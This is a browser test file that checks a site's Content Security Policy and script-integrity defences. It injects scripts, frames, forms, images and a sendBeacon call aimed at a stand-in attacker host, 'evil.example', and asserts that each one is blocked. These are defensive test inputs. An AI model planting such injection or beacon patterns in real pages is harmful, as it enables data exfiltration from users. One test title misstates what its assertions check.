import { PAGES } from '../support/pages';
import { tryProbes } from '../support/probes';
import { expect, open, test } from '../support/test';

/** What the browser says when a policy stops something, and what a script that may not load leaves behind. */
const STOPPED =
  /Content Security Policy|Trusted ?(Types|HTML|Script)|Integrity-Policy|ERR_BLOCKED_BY_CSP|csp$/i;
const EVIL = 'https://evil.example/steal.js';

test('ten of ten ways to run foreign code in the page are stopped by the policy', async ({ page, noise }) => {
  noise.allowed.push(STOPPED);
  const script = { contentType: 'text/javascript', body: 'window.ran = true' };
  const open_ = { 'access-control-allow-origin': '*', 'cross-origin-resource-policy': 'cross-origin' };
  const asked: string[] = [];
  for (const address of [EVIL, '**/unlisted.js']) {
    await page.route(address, async (route) => {
      asked.push(route.request().url());
      await route.fulfill({ ...script, headers: open_ });
    });
  }
  await open(page, '/');
  const outcomes = await tryProbes(page, EVIL);
  expect(
    Object.entries(outcomes).filter(([, outcome]) => /^(ran|nothing stopped it)$/.test(outcome)),
  ).toEqual([]);
  expect(Object.keys(outcomes)).toHaveLength(10);
  expect(asked).toEqual([]);
});

test('a listed script without its hash, or with the hash of something else, does not run', async ({
  page,
  noise,
}) => {
  noise.allowed.push(STOPPED, /Failed to find a valid digest|integrity/i);
  await open(page, '/');
  const outcomes = await page.evaluate(async () => {
    const [listed] = document.querySelectorAll<HTMLLinkElement>('link[rel=preload][as=script]');
    const load = (integrity: string) =>
      new Promise<string>((resolve) => {
        const script = document.createElement('script');
        script.onload = () => resolve('ran');
        script.onerror = () => resolve('stopped');
        script.crossOrigin = 'anonymous';
        script.integrity = integrity;
        script.src = `${listed?.href ?? ''}?again=${integrity.length}`;
        document.head.append(script);
      });
    return [await load(''), await load(`sha256-${'B'.repeat(43)}=`), await load(listed?.integrity ?? '')];
  });
  expect(outcomes).toEqual(['stopped', 'stopped', 'ran']);
});

test('markup that somebody injects opens no door: no base, frame, foreign style, form or picture', async ({
  page,
  noise,
}) => {
  noise.allowed.push(STOPPED, /evil\.example/);
  const asked: string[] = [];
  await page.route('https://evil.example/**', async (route) => {
    asked.push(route.request().url());
    await route.fulfill({ body: 'evil' });
  });
  await open(page, '/');
  const seen = await page.evaluate(
    () =>
      new Promise<string[]>((resolve) => {
        const directives: string[] = [];
        document.addEventListener('securitypolicyviolation', (event) => {
          directives.push(event.effectiveDirective);
          if (new Set(directives).size === 6) resolve([...new Set(directives)].sort());
        });
        const add = <Name extends keyof HTMLElementTagNameMap>(
          name: Name,
          values: Partial<HTMLElementTagNameMap[Name]>,
        ) => document.body.appendChild(Object.assign(document.createElement(name), values));
        add('base', { href: 'https://evil.example/' });
        add('iframe', { src: 'https://evil.example/frame' });
        add('link', { rel: 'stylesheet', href: 'https://evil.example/style.css' });
        add('img', { src: 'https://evil.example/pixel.png' });
        add('form', { action: 'https://evil.example/form', method: 'post' }).submit();
        navigator.sendBeacon('https://evil.example/beacon', 'x');
      }),
  );
  expect(seen).toEqual(['base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src', 'style-src-elem']);
  expect(asked).toEqual([]);
});

test('no page of the site meets its own policy, and every script and style carries its hash', async ({
  page,
}) => {
  test.setTimeout(120_000);
  await page.addInitScript(() => {
    const marked = window as unknown as { violations: string[] };
    marked.violations = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      marked.violations.push(`${effectiveDirective} ${blockedURI}`),
    );
  });
  for (const { url } of PAGES) {
    await open(page, url);
    const found = await page.evaluate(() => ({
      violations: (window as unknown as { violations: string[] }).violations,
      bare: [
        ...document.querySelectorAll<HTMLScriptElement | HTMLLinkElement>(
          'script[src], link[rel=stylesheet][href], link[rel=preload][as=script]',
        ),
      ]
        .filter(({ integrity }) => !integrity.startsWith('sha256-'))
        .map(({ outerHTML }) => outerHTML),
      isolated: window.crossOriginIsolated,
    }));
    expect(found, url).toEqual({ violations: [], bare: [], isolated: true });
  }
});
